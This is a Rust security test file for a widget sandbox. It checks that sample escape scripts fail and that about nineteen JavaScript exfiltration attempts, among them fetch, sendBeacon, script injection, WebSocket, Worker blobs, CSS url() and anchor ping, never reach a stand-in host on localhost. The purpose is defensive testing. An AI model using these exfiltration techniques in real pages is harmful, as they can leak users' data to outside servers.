//! What a widget's code can't do. `docs/SECURITY.md` names these tests.

use std::net::TcpListener;

use serde_json::Value;

use crate::harness::{Bench, options};
use crate::visit::{Visit, browser, invented, kind};

#[test]
fn a_script_that_tries_everything_gets_nothing() {
    let mut browser = browser();
    let bench = Bench::with(options(), invented("escapes"));
    let mut visit = Visit::of(&mut browser, &bench, "lead");
    let names = visit.frame("Object.keys(sampleEscapes)");
    visit.end();
    let names: Vec<String> = serde_json::from_value(names).unwrap();
    assert!(names.len() >= 15, "{names:?}");
    for name in names {
        let mut visit = Visit::of(&mut browser, &bench, "lead");
        let got = visit.frame(&format!("sampleEscapes.{name}()"));
        assert_eq!(got, "no", "{name}");
        let origin = format!("http://127.0.0.1:{}", bench.stand_in.port());
        assert_eq!(visit.bar("location.origin"), Value::from(origin), "{name}");
        visit.until("[...document.querySelectorAll('iframe')].some((frame) => !frame.hidden)");
        let acted: Vec<Value> = visit.events().into_iter().filter(|event| ["wish", "decided"].contains(&kind(event).as_str())).collect();
        assert_eq!(acted, Vec::<Value>::new(), "{name}");
        assert_eq!(bench.stand_in.hosts().iter().len(), 0, "{name}");
        visit.end();
    }
}

#[test]
fn nothing_reaches_a_host_that_is_not_let_through() {
    let mut browser = browser();
    let outside = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    outside.set_nonblocking(true).unwrap();
    let host = format!("127.0.0.1:{}", outside.local_addr().unwrap().port());
    let bench = Bench::with(options(), invented("escapes"));
    let mut visit = Visit::of(&mut browser, &bench, "lead");
    let tries = [
        "fetch('http://HOST/a').catch(() => 0)",
        "new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('POST', 'http://HOST/b'); x.send('1'); }).then(() => 0)",
        "navigator.sendBeacon('http://HOST/c', '1'), 0",
        "new Image().src = 'http://HOST/d.png', 0",
        "document.head.append(Object.assign(document.createElement('script'), { src: 'http://HOST/e.js' })), 0",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://HOST/f.css' })), 0",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://HOST/g' })), 0",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://HOST/' })), 0",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://HOST/h' })), 0",
        "document.body.append(Object.assign(document.createElement('object'), { data: 'http://HOST/i' })), 0",
        "document.body.append(Object.assign(document.createElement('video'), { src: 'http://HOST/j' })), 0",
        "(() => { const form = Object.assign(document.createElement('form'), { action: 'http://HOST/k', method: 'post' }); document.body.append(form); form.submit(); return 0; })()",
        "(() => { try { new WebSocket('ws://HOST/l'); } catch {} return 0; })()",
        "(() => { try { new EventSource('http://HOST/m'); } catch {} return 0; })()",
        "(() => { try { new Worker(URL.createObjectURL(new Blob(['fetch(\"http://HOST/n\")']))); } catch {} return 0; })()",
        "(() => { const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.fetch('http://HOST/o', { mode: 'no-cors' }).catch(() => 0); return 0; })()",
        "import('http://HOST/p.js').catch(() => 0)",
        "(() => { const style = document.createElement('style'); style.textContent = 'body { background: url(http://HOST/q.png) }'; document.head.append(style); return 0; })()",
        "(() => { const link = Object.assign(document.createElement('a'), { href: 'http://HOST/r', ping: 'http://HOST/s' }); link.addEventListener('click', (event) => event.preventDefault()); document.body.append(link); link.click(); return 0; })()",
    ];
    for expression in tries {
        visit.frame(&expression.replace("HOST", &host));
    }
    // What is asked last is answered last: by then the others would have been sent.
    visit.frame("fetch('/api/v4/account').then((answer) => answer.status)");
    visit.frame("new Promise((done) => requestAnimationFrame(() => setTimeout(done, 500)))");
    // A connection without a byte is what browsers make of `preconnect`; no page can forbid it (docs/SECURITY.md).
    while let Ok((mut stream, _)) = outside.accept() {
        stream.set_nonblocking(true).unwrap();
        let mut bytes = [0; 200];
        let count = std::io::Read::read(&mut stream, &mut bytes).unwrap_or_default();
        assert_eq!(String::from_utf8_lossy(&bytes[..count]), "", "it was reached");
    }
    let refused = visit.events().iter().filter(|event| kind(event) == "refused").count();
    assert!(refused > 5, "{refused}");
    visit.end();
}
